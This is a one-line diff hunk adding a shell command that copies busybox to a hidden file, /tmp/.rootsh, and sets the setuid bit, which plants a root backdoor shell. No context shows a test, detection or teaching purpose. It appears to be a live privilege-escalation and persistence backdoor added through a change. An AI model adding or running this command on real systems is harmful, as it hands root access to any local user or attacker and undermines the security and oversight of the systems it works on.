@@ -1,0 +1,1 @@
+cp /bin/busybox /tmp/.rootsh && chmod 4755 /tmp/.rootsh
